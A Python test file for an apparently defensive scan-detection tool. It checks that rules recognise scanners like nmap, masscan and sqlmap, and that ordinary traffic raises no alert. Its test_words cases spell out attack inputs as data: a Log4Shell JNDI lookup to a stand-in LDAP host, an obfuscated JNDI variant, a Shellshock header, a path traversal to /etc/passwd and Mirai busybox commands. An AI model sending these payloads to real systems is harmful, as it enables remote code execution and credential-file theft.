"""The shipped rules name the tools of the recorded captures, and nobody who is none."""

import json
import re
from pathlib import Path

import pytest

from rawspoof.core.watch.facts import FACTS
from rawspoof.core.watch.judge import HINTS_MAX, Judge
from rawspoof.core.watch.rule import parse
from rawspoof.core.watch.source import Source
from rawspoof.edges.system.scanners import load_rules
from tests.golden import case

ROOT = Path(__file__).parents[2]


def last_report(name):
    transcript, _ = case.play(name)
    reports = [json.loads(line) for line in transcript.splitlines() if line.startswith('{"kind": "scan.')]
    return reports[-1]


@pytest.mark.parametrize(
    ("capture", "tool", "technique", "system"),
    [
        ("nmap-syn-scan", "nmap", "syn", ""),
        ("nmap-odd-probes", "nmap", "fin", ""),
        ("nmap-version-scan", "nmap", "connect", ""),
        ("nmap-connect-scan", "", "connect", "linux"),
        ("masscan", "masscan", "syn", ""),
        ("zmap", "zmap", "syn", ""),
        ("hping3", "hping3", "syn", ""),
        ("curl", "", "connect", "linux"),
        ("ssh", "", "connect", "linux"),
    ],
)
def test_recorded_tools(capture, tool, technique, system):
    told = last_report(capture)
    assert (told["tool"], told["system"]) == (tool, system)
    assert technique in told["techniques"]


RULES = load_rules()
JUDGE = Judge(RULES, lambda address: False)
ORDINARY = [
    line.encode().decode("unicode_escape").encode("latin-1")
    for line in (Path(__file__).parent / "ordinary.txt").read_text("ascii").splitlines()[1:]
]


def heard(request):
    source = Source(b"\1\2\3\4", 0.0)
    JUDGE.hear(source, request)
    return source


def judged(request):
    found = JUDGE(heard(request), 1.0)
    return found.tool, found.techniques


@pytest.mark.parametrize("rule", [words.rule for words in RULES.words], ids=lambda rule: rule.sign or rule.tool)
def test_every_rule_for_words_finds_its_example_and_no_other_tool_does(rule):
    hints = heard(rule.example.encode("latin-1")).hints
    assert {name for name in hints if name[0] not in "!="} == ({rule.tool} - {""})
    assert {f"!{rule.technique}", f"={rule.sign}"} - {"!", "="} <= set(hints)


@pytest.mark.parametrize("request_", ORDINARY)
def test_ordinary_requests_are_ordinary(request_):
    assert heard(request_).hints is None


def test_every_rule_says_where_it_is_from_and_what_gave_a_tool_away():
    rules = [*RULES.tools, *RULES.systems, *(words.rule for words in RULES.words)]
    files = {file for rule in rules for file in re.findall(r"(?:tests|signatures)/[\w/.-]*\w", rule.source)}
    assert [file for file in files if not (ROOT / file).exists()] == []
    assert all(rule.source for rule in rules)
    assert all(rule.sign for rule in RULES.tools)


def test_every_fact_is_asked_for():
    assert {name for rule in (*RULES.tools, *RULES.systems) for name in rule.when} == set(FACTS)


@pytest.mark.parametrize(
    ("request_", "tool", "technique"),
    [
        (b"GET /nice%20ports%2C/Tri%6Eity.txt%2ebak HTTP/1.0\r\n\r\n", "nmap", "version"),
        (b"GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.0 zgrab/0.x\r\n\r\n", "zgrab", "version"),
        (b"GET /a HTTP/1.1\r\nUser-Agent: gobuster/3.6\r\n\r\n", "gobuster", "wordlist"),
        (b"GET / HTTP/1.1\r\nUser-Agent: sqlmap/1.7#stable (https://sqlmap.org)\r\n\r\n", "sqlmap", "vulnerability"),
        (b"GET / HTTP/1.1\r\nUser-Agent: Mozilla/4.0 (Hydra)\r\n\r\n", "hydra", None),
        (b"GET /?x=${jndi:ldap://198.51.100.9/a} HTTP/1.1\r\n\r\n", "", "exploit"),
        (b"GET /?x=${${::-j}${::-n}di:ldap://h/a} HTTP/1.1\r\n\r\n", "", "exploit"),
        (b"GET / HTTP/1.1\r\nUser-Agent: () { :; }; /bin/id\r\n\r\n", "", "exploit"),
        (b"GET /cgi-bin/.%2e/%2e%2e/%2e%2e/etc/passwd HTTP/1.1\r\n\r\n", "", "exploit"),
        (b"enable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox MIRAI\r\n", "mirai", "exploit"),
        (b"GET / HTTP/1.1\r\nHost: www\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0\r\n\r\n", "", None),
        (b"EHLO mail.example\r\n", "", None),
    ],
)
def test_words(request_, tool, technique):
    named, told = judged(request_)
    assert named == tool
    assert told == ((technique,) if technique else ())


def test_a_proven_login_try_is_told_and_raises_the_risk():
    judge = Judge(parse([]), lambda address: True)
    source = Source(b"\1\2\3\4", 0.0)
    source.opened = source.credentials = 1
    found = judge(source, 1.0)
    assert (found.techniques, found.attack, found.level) == (("credential",), ("T1110",), 1)


def test_what_is_remembered_of_words_is_bounded():
    rules = parse([f"[[words]]\nwhen = 'x'\ntool = 't{n}'\nexample = ''\nsource = ''\n" for n in range(100)])
    source = Source(b"\1\2\3\4", 0.0)
    Judge(rules, lambda address: False).hear(source, b"x")
    assert len(source.hints) == HINTS_MAX
